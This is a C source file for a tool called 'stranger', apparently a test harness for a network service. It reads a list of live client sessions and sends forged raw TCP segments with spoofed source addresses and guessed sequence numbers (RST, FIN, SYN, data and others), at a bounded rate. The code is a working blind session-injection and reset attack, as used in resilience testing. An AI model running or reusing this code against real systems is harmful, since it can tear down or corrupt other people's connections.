/* SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause */
/*
 * stranger: blind attacks on sessions that live. Reads "<client address:port> ..." lines (the oracle's list) and sends, in the name of
 * one end of each to the other, segments with guessed sequence numbers, through a raw socket in the current network namespace.
 * Bounded in number and rate. It knows addresses and ports, which an attacker may learn, but no sequence number.
 */
#include <errno.h>
#include <getopt.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <common/addr.h>
#include <common/duration.h>
#include <common/error.h>
#include <common/text.h>
#include <rainbow/checksum.h>

#define SESSIONS_MAX 200000

static const char usage_text[] =
    "usage: stranger --sessions FILE --service ADDR:PORT --kind rst|fin|syn|ack|data|syn-ack [--as client|ADDR:PORT]\n"
    "                [--strange] --count N [--rate N] [--seed N]\n"
    "  --as ADDR:PORT  in the name of this backend to the clients, instead of in the clients' name to the service\n"
    "  --strange       from ports that no session has: forged handshakes\n"
    "IPv4 only. Prints {\"sent\":N}\n";

static const struct kind {
	const char *name;
	uint8_t flags; /* of the TCP header: FIN 1, SYN 2, RST 4, PSH 8, ACK 16 */
	uint8_t payload;
} kinds[] = {{"rst", 4, 0}, {"fin", 17, 0}, {"syn", 2, 0}, {"ack", 16, 0}, {"data", 24, 16}, {"syn-ack", 18, 0}};

struct packet {
	struct iphdr ip;
	struct tcphdr tcp;
	unsigned char payload[16];
};

static struct endpoint *clients;
static size_t client_count;
static uint64_t random_state;

static uint64_t random_next(void)
{
	uint64_t z = random_state += 0x9e3779b97f4a7c15ull;

	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
	z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
	return z ^ (z >> 31);
}

static void die(const char *message)
{
	fprintf(stderr, "stranger: %s\n", message);
	exit(2);
}

static void sessions_read(const char *path)
{
	char line[256], word[ADDR_TEXT_SIZE];
	FILE *file = fopen(path, "r");
	struct error error;

	clients = calloc(SESSIONS_MAX, sizeof(*clients));
	if (!file || !clients)
		die(path);
	while (client_count < SESSIONS_MAX && fgets(line, sizeof(line), file)) {
		if (sscanf(line, "%63s", word) == 1 && !endpoint_parse(word, &clients[client_count], "session", &error))
			client_count++;
	}
	fclose(file);
	if (!client_count)
		die("no session in the file");
}

static uint32_t v4(const struct rainbow_addr *addr)
{
	uint32_t value;

	memcpy(&value, addr->octet + 12, 4);
	return value;
}

static uint16_t checksum(const struct packet *packet, size_t length)
{
	uint64_t sum = htons(IPPROTO_TCP) + htons((uint16_t)length);
	const uint16_t *word = (const uint16_t *)&packet->tcp;
	size_t i;

	sum += (packet->ip.saddr & 0xffff) + (packet->ip.saddr >> 16) + (packet->ip.daddr & 0xffff) + (packet->ip.daddr >> 16);
	for (i = 0; i < length / 2; i++)
		sum += word[i];
	return (uint16_t)~rainbow_sum_fold(sum);
}

static size_t packet_make(struct packet *packet, const struct kind *kind, const struct endpoint *from,
			  const struct endpoint *to)
{
	size_t length = sizeof(packet->tcp) + kind->payload;

	memset(packet, 0, sizeof(*packet));
	packet->ip = (struct iphdr){.version = 4,
				    .ihl = 5,
				    .ttl = 64,
				    .protocol = IPPROTO_TCP,
				    .saddr = v4(&from->addr),
				    .daddr = v4(&to->addr),
				    .tot_len = htons((uint16_t)(sizeof(packet->ip) + length))};
	packet->tcp.source = htons(from->port);
	packet->tcp.dest = htons(to->port);
	packet->tcp.seq = (uint32_t)random_next();
	packet->tcp.ack_seq = kind->flags & 16 ? (uint32_t)random_next() : 0;
	packet->tcp.doff = sizeof(packet->tcp) / 4;
	((unsigned char *)&packet->tcp)[13] = kind->flags;
	packet->tcp.window = htons(64240);
	memset(packet->payload, 'x', kind->payload);
	packet->tcp.check = checksum(packet, length);
	return sizeof(packet->ip) + length;
}

static uint64_t attack(const struct kind *kind, const struct endpoint *service, const struct endpoint *backend, bool is_strange,
		       uint64_t count, uint64_t rate)
{
	int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
	int64_t began = monotonic_ms();
	uint64_t sent;

	if (fd < 0)
		die(strerror(errno));
	for (sent = 0; sent < count; sent++) {
		struct endpoint client = clients[random_next() % client_count];
		struct sockaddr_storage address;
		struct packet packet;
		size_t length;
		socklen_t size;

		if (is_strange)
			client.port = (uint16_t)(1024 + random_next() % 64512);
		length = backend ? packet_make(&packet, kind, backend, &client) : packet_make(&packet, kind, &client, service);
		size = addr_to_sockaddr(backend ? &client.addr : &service->addr, 0, &address);
		if (sendto(fd, &packet, length, 0, (struct sockaddr *)&address, size) < 0 && errno != ENOBUFS)
			die(strerror(errno));
		while (sent >= rate * (uint64_t)(monotonic_ms() - began + 10) / 1000)
			usleep(2000);
	}
	close(fd);
	return sent;
}

static const struct kind *kind_find(const char *name)
{
	size_t i;

	for (i = 0; i < sizeof(kinds) / sizeof(kinds[0]); i++) {
		if (!strcmp(kinds[i].name, name))
			return &kinds[i];
	}
	die("--kind is none of rst, fin, syn, ack, data, syn-ack");
	return NULL;
}

int main(int argc, char **argv)
{
	static const struct option long_options[] = {
	    {"sessions", required_argument, NULL, 'f'}, {"service", required_argument, NULL, 's'},
	    {"kind", required_argument, NULL, 'k'},     {"as", required_argument, NULL, 'a'},
	    {"strange", no_argument, NULL, 'x'},        {"count", required_argument, NULL, 'n'},
	    {"rate", required_argument, NULL, 'r'},     {"seed", required_argument, NULL, 'd'},
	    {"help", no_argument, NULL, 'h'},           {0},
	};
	struct endpoint service = {0}, backend = {0};
	uint64_t count = 0, rate = 5000;
	const struct kind *kind = NULL;
	bool is_strange = false;
	struct error error;
	int option;

	while ((option = getopt_long(argc, argv, "", long_options, NULL)) != -1) {
		if (option == 'f')
			sessions_read(optarg);
		else if (option == 's'
			     ? endpoint_parse(optarg, &service, "--service", &error)
			     : option == 'a' && strcmp(optarg, "client") && endpoint_parse(optarg, &backend, "--as", &error))
			die(error.message);
		else if (option == 'k')
			kind = kind_find(optarg);
		else if (option == 'x')
			is_strange = true;
		else if (option == 'n' || option == 'r' || option == 'd')
			*(option == 'n' ? &count : option == 'r' ? &rate : &random_state) = strtoull(optarg, NULL, 10);
		else if (option == 'h' || option == '?')
			break;
	}
	if (option != -1 || !client_count || !service.port || !kind || !count || !rate) {
		fputs(usage_text, stderr);
		return 2;
	}
	printf("{\"sent\":%llu}\n",
	       (unsigned long long)attack(kind, &service, backend.port ? &backend : NULL, is_strange, count, rate));
	return 0;
}
